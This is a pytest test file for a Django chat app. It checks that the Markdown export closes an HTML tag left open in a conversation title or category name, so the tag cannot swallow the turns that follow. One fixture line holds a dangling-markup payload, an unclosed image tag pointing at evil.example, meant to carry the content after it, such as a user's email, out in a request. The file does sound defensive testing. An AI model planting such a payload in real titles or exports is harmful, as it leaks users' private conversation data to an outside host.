"""The Markdown export's header is checked like each of its turns: a title (the owner's own, or
taken from their first message) or a category name that leaves a tag open is closed before the
first turn, which a Markdown viewer would otherwise read into it, the values put back included."""

import pytest
from django.urls import reverse

from chat.markdown import HTML_CLOSER, leaves_html_open
from tests.asked_here import asked
from tests.chat.test_restore_outside_links import EMAIL, _addresses
from tests.chat.test_views import _answered

LEFT_OPEN = 'Notes <img src="https://evil.example/p.png?'


def _export(client, org, *, title: str = "Notes", category_name: str = "") -> str:
    conversation, _, _ = _answered(
        org.alice,
        org.internal,
        f"Mail {EMAIL}",
        "Done, [EMAIL_1] is copied: see [the log](https://ok.example/).",
        pseudonyms={EMAIL: "[EMAIL_1]"},
    )
    conversation.title = title
    conversation.save(update_fields=["title_sealed"])
    if category_name:
        org.internal.name = category_name
        org.internal.save(update_fields=["name"])
    client.force_login(org.alice)
    return client.get(
        asked(client, reverse("chat:export", args=[conversation.public_id, "md"]))
    ).content.decode()


@pytest.mark.parametrize("where", ["title", "category_name"])
def test_a_header_left_open_is_closed_before_the_first_turn(client, org, where):
    text = _export(client, org, **{where: LEFT_OPEN})
    header, turns = text.split("\n## ", 1)
    assert leaves_html_open(header.removesuffix(f"\n{HTML_CLOSER}\n"))
    assert header.endswith(f"\n\n{HTML_CLOSER}\n")  # before the first turn
    assert text.count(HTML_CLOSER) == 1
    assert f"Done, {EMAIL} is copied" in turns
    assert not any(EMAIL in value for value in _addresses(text))


def test_a_plain_header_gets_no_closer(client, org):
    text = _export(client, org)
    assert text.startswith("# Notes\n\nCategory ")
    assert HTML_CLOSER not in text
